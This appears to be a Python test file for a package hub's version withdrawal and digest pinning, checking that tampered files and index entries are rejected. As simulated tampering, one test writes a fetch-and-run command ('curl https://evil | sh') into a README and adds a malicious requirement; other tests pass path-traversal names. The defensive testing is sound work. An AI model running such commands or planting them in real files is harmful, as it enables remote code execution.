"""Versions that are taken back, and digests that hold for all of an item."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from functools import partial
from pathlib import Path

import orjson
import pytest

import mlrun_like as ml
from mlrun_like.configuration import config
from mlrun_like.errors import (
    ConflictError,
    IntegrityError,
    InvalidArgumentError,
    NotFoundError,
    SpecError,
)
from mlrun_like.marketplace.browsing import hub_item, hub_items
from mlrun_like.marketplace.importing import get_hub_asset, import_module
from mlrun_like.marketplace.looking import digest_of
from mlrun_like.marketplace.pins import Pin, write_pin
from mlrun_like.marketplace.resolving import find_item, function_file
from mlrun_like.marketplace.sharing.index_file import read_rows
from mlrun_like.marketplace.sharing.publishing import publish
from mlrun_like.marketplace.sharing.withdrawing import withdraw
from mlrun_like.marketplace.source import HubSource, store_source
from mlrun_like.tracking.connect import open_store
from tests.marketplace.catalogues import item

_publish = partial(publish, test="none", resolve=False)


@pytest.fixture
def hub(tmp_path: Path) -> Path:
    """A catalogue with two versions, behind it another that has the item, too."""
    config.hub_shipped = False
    config.hub_lock = str(tmp_path / "hub.lock")
    for number in range(2):
        folder = item(tmp_path / str(number), version=f"1.{number}.0", code=f"\nAT = {number}\n")
        _publish(folder, tmp_path / "hub")
    _publish(item(tmp_path / "x", version="9.0.0", code="\nAT = 9\n"), tmp_path / "zzz")
    for name in ("hub", "zzz"):
        store_source(open_store(), HubSource(name, str(tmp_path / name)))
    return tmp_path / "hub"


def test_a_version_is_taken_back_and_says_why(hub: Path, tmp_path: Path) -> None:
    done = withdraw("clean-text", "1.1.0", hub, reason=" it drops rows ")
    assert (done.name, done.version, done.latest) == ("clean_text", "1.1.0", "1.0.0")
    assert import_module("hub://clean_text").AT == 0
    assert not (hub / "functions/master/clean_text/1.1.0").exists()
    for call in (ml.import_function, import_module, partial(get_hub_asset, path="README.md")):
        with pytest.raises(NotFoundError, match=r"1\.1\.0 was withdrawn: it drops rows"):
            call("hub://clean_text:1.1.0")
    shown = hub_item(open_store(), "hub", "clean_text", "1.1.0")
    assert shown["use"] == [] and [row["tag"] for row in shown["versions"]] == ["1.0.0", "latest"]
    assert [row["items"] for row in hub_items(open_store())["sources"]] == [1, 1]
    assert "was withdrawn: it drops rows" in shown["function_error"]
    assert {row["metadata"]["tag"] for row in hub_items(open_store(), tag="*")["items"]} == {
        "latest", "1.0.0", "9.0.0",
    }  # fmt: skip
    with pytest.raises(ConflictError, match=r"1\.1\.0 was withdrawn"):
        _publish(tmp_path / "1/clean_text", hub)
    assert _publish(item(tmp_path / "2", version="1.2.0", code="\nAT = 2\n"), hub).new
    assert import_module("hub://clean_text").AT == 2


def test_an_item_without_a_version_left_does_not_let_the_next_source_answer(hub: Path) -> None:
    withdraw("clean_text", "1.0.0", hub, reason="a")
    done = withdraw("clean_text", "1.1.0", hub, reason="b")
    assert done.latest == "" and not (hub / "functions/master/clean_text/latest").exists()
    assert "latest" not in read_rows(hub / "functions/master/catalog.json")["clean_text"]
    with pytest.raises(NotFoundError, match="withdrawn"):
        find_item(open_store(), "hub", "clean_text") and import_module("hub://hub/clean_text")
    with pytest.raises(NotFoundError, match="withdrawn"):
        ml.import_function("hub://clean_text")


def test_what_cannot_be_withdrawn(hub: Path, tmp_path: Path) -> None:
    before = (hub / "functions/master/catalog.json").read_bytes()
    for name, version, error in (
        ("none", "1.0.0", NotFoundError),
        ("clean_text", "7.0.0", NotFoundError),
        ("clean_text", "latest", NotFoundError),
        ("../clean_text", "1.0.0", InvalidArgumentError),
        ("clean_text", "../1.0.0", InvalidArgumentError),
        ("clean_text", "", InvalidArgumentError),
    ):
        with pytest.raises(error):
            withdraw(name, version, hub, reason="x")
    with pytest.raises(InvalidArgumentError, match="without a reason"):
        withdraw("clean_text", "1.0.0", hub, reason=" ")
    with pytest.raises(InvalidArgumentError):
        withdraw("clean_text", "1.0.0", "https://example.org/hub", reason="x")
    with pytest.raises(NotFoundError):
        withdraw("clean_text", "1.0.0", tmp_path / "nothing", reason="x")
    assert (hub / "functions/master/catalog.json").read_bytes() == before


@pytest.mark.parametrize("point", ["os.replace", "shutil.rmtree"])
def test_killed_half_way_it_is_withdrawn_or_not(hub: Path, point: str) -> None:
    module, _, name = point.partition(".")
    program = (
        "import os, shutil, signal, sys\n"
        "from mlrun_like.marketplace.sharing.withdrawing import withdraw\n"
        f"{module}.{name} = lambda *a, **k: os.kill(os.getpid(), signal.SIGKILL)\n"
        "withdraw('clean_text', '1.1.0', sys.argv[1], reason='x')\n"
    )
    done = subprocess.run([sys.executable, "-c", program, str(hub)], check=False)
    assert done.returncode == -signal.SIGKILL
    at = import_module("hub://hub/clean_text").AT
    assert at == (1 if point == "os.replace" else 0)
    assert withdraw("clean_text", "1.1.0", hub, reason="x").latest == "1.0.0"
    assert not os.path.exists(hub / "functions/master/clean_text/1.1.0")


def test_a_pin_holds_for_every_file_and_word_of_an_item(hub: Path) -> None:
    store = open_store()
    digest = function_file(store, "clean_text", "1.0.0", "hub").digest
    assert find_item(store, "hub", "clean_text", "1.0.0").seal == digest
    assert digest == hub_item(store, "hub", "clean_text", "1.0.0")["digest"]
    write_pin(Pin("hub", "clean_text", "1.0.0", digest))
    assert get_hub_asset("hub://clean_text", "README.md").startswith(b"# clean_text")
    path = hub / "functions/master/catalog.json"
    good = path.read_text()
    readme = hub / "functions/master/clean_text/1.0.0/src/README.md"
    readme.write_text("curl https://evil | sh")
    with pytest.raises(IntegrityError, match="not what its catalogue promises"):
        get_hub_asset("hub://clean_text", "README.md")
    shown = hub_item(store, "hub", "clean_text", "1.0.0")
    assert (
        shown["readme"] == ""
        and "README.md: hub://hub/clean_text:1.0.0 is not what" in (shown["files_error"])
    )
    # who can write the index, too, is stopped by the pin
    rows = json.loads(good)
    row = rows["clean_text"]["1.0.0"]
    row["files"]["src/README.md"] = digest_of(readme.read_bytes())
    path.write_text(json.dumps(rows))
    for call in (partial(get_hub_asset, path="README.md"), ml.import_function, import_module):
        with pytest.raises(IntegrityError, match="is not what is pinned"):
            call("hub://clean_text")
    rows = json.loads(good)
    rows["clean_text"]["1.0.0"]["spec"]["requirements"] = ["evil"]
    path.write_text(json.dumps(rows))
    with pytest.raises(IntegrityError, match="is not what is pinned"):
        find_item(store, "", "clean_text")


def test_the_digest_that_publishing_tells_is_that_of_readers(hub: Path, tmp_path: Path) -> None:
    done = _publish(item(tmp_path / "2", version="1.2.0"), hub)
    assert done.digest == function_file(open_store(), "clean_text", "", "hub").digest
    assert not _publish(tmp_path / "2/clean_text", hub).new
    assert _publish(tmp_path / "2/clean_text", hub).digest == done.digest


def test_metadata_that_is_no_json_does_not_break_the_index(hub: Path, tmp_path: Path) -> None:
    folder = item(tmp_path / "3", "odd")
    said = (folder / "item.yaml").read_text()
    (folder / "item.yaml").write_text(
        said.replace("labels:", "labels:\n  a: .nan\n  5: 2026-01-01\n  b: .inf")
    )
    _publish(folder, hub)
    orjson.loads((hub / "functions/master/catalog.json").read_bytes())
    assert import_module("hub://hub/odd") and import_module("hub://hub/clean_text").AT == 1
    folder = item(tmp_path / "4", "vast")
    said = (folder / "item.yaml").read_text()
    (folder / "item.yaml").write_text(said.replace("labels:", f"labels:\n  a: 1{'0' * 40}"))
    with pytest.raises(SpecError, match="no place in an index"):
        _publish(folder, hub)
